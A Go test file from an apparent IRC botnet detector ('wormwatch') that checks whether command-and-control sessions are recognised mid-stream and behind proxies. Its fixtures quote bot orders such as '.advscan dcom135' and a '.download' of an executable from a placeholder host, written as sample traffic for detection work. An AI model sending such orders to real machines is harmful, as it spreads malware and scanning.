package stream

import (
	"strings"
	"testing"

	"github.com/wormwatch/wormwatch/internal/irc"
)

// A session that was there before us is known from its lines, whoever speaks first.
func TestMetHalfway(t *testing.T) {
	topic := down(":irc.example.net 332 DEU|483920 #sl0w3r :.advscan dcom135 200 3 0 -r -s\r\n")
	order := down(":op!o@example.org PRIVMSG #sl0w3r :.download http://example.org/x.exe c:\\x.exe 1\r\n")
	report := up("PRIVMSG #sl0w3r :[SCAN]: Random Port Scan started on 10.0.x.x:135\r\n")
	ping := down("PING :irc.example.net\r\n")
	for name, turns := range map[string][]turn{
		"server first": {topic, order},
		"client first": {report, topic, order},
		"ping first":   {ping, up("PONG irc.example.net\r\n"), topic, order},
		"registration": {bot()[1], topic, order},
	} {
		for ends, c := range map[string]*conn{
			"at home and away": dial("10.0.0.1", botServer, 1049, 6667),
			"both at home":     dial("10.0.0.1", "10.7.7.7", 49152, 6667),
			"IPv6":             dial("fd00::1", "2001:db8::7", 1049, 6667),
		} {
			w := newWire(t)
			w.talk(c, turns...)
			if s := w.f.Stats(); len(w.all) == 0 || s.Middle != 1 {
				t.Errorf("%s, %s: not found: %+v", name, ends, s)
				continue
			}
			l := w.last()
			if !strings.Contains(l.sum.orders, "download") || l.sum.facts&irc.Middle == 0 || l.Client != c.ends[client] || l.ClientPort != c.ports[client] {
				t.Errorf("%s, %s: %+v", name, ends, l)
			}
		}
	}
}

// What is no whole line of IRC, or nobody's of ours, is not worth a slot; nor is a
// connection of which the start was seen and was none of IRC's.
func TestNotMetHalfway(t *testing.T) {
	ours, theirs := dial("10.0.0.1", botServer, 1049, 80), dial("192.0.2.1", botServer, 1049, 6667)
	w := newWire(t)
	w.talk(ours, up("N"), up("NICK anna"), up("NICKNAME\r\n"), down("HTTP/1.1 200 OK\r\n"), down(": root { color: red }\r\n"))
	w.talk(theirs, bot()...)
	inward := dial("192.0.2.1", "10.0.0.2", 1049, 6667)
	w.talk(inward, up("NICK a\r\nUSER a 0 * :a\r\n"), down(":irc.example.net 001 a :Welcome\r\n"))
	if s := w.f.Stats(); s.FollowedEver != 0 || len(w.all) != 0 {
		t.Errorf("%+v", s)
	}
}

// A server of ours that clients outside speak to is no client of theirs, though their PINGs
// might be a server's.
func TestServerAtHomeMetHalfway(t *testing.T) {
	w := newWire(t)
	c := dial("192.0.2.1", "10.0.0.2", 1049, 6667)
	for range 5 {
		w.talk(c, up("PING LAG12345\r\n"), down(":irc.example.net PONG irc.example.net :LAG12345\r\n"),
			down(":bert!b@h PRIVMSG #garden :hello\r\n:anna!a@h JOIN #garden\r\n"), up("PRIVMSG #garden :hello\r\n"))
	}
	if len(w.all) != 0 {
		t.Errorf("%+v", w.last())
	}
}

// Behind a proxy, of SOCKS (RFC 1928) or HTTP, the connection begins with octets that are
// none of IRC, and goes on with its lines.
func TestThroughAProxy(t *testing.T) {
	for name, hello := range map[string][]turn{
		"SOCKS": {up("\x05\x01\x00"), down("\x05\x00"), up("\x05\x01\x00\x01\xc6\x33\x64\x08\x1a\x0b"), down("\x05\x00\x00\x01\x00\x00\x00\x00\x00\x00")},
		"HTTP":  {up("CONNECT irc.example.net:6667 HTTP/1.0\r\n\r\n"), down("HTTP/1.0 200 Connection established\r\n\r\n")},
	} {
		w := newWire(t)
		c := dial("10.0.0.1", botServer, 1049, 1080)
		w.open(c)
		w.talk(c, hello...)
		if s := w.f.Stats(); s.LetGo.Other+s.LetGo.HTTP != 1 || s.Openings != 0 {
			t.Fatalf("%s: not let go: %+v", name, s)
		}
		w.talk(c, bot()[1:]...)
		if len(w.all) == 0 {
			t.Errorf("%s: nothing was told", name)
			continue
		}
		if l := w.last(); l.sum.orders != "advscan download" || l.sum.nick != "DEU|483920" || l.sum.facts&irc.Middle == 0 {
			t.Errorf("%s: %+v", name, l.sum)
		}
	}
}

// A conversation met half-way that shows nothing is let go, and may be met again.
func TestPatience(t *testing.T) {
	w := newWire(t)
	c := dial("10.0.0.1", botServer, 1049, 6667)
	for range patience + 1 {
		w.talk(c, down("PING :3735928559\r\n"))
	}
	if s := w.f.Stats(); s.Undecided != 1 || s.Followed != 0 || s.Middle != 1 {
		t.Fatalf("%+v", s)
	}
	w.talk(c, bot()[4:]...)
	if l := w.last(); l.sum.orders != "advscan download" {
		t.Errorf("%+v", l.sum)
	}
}
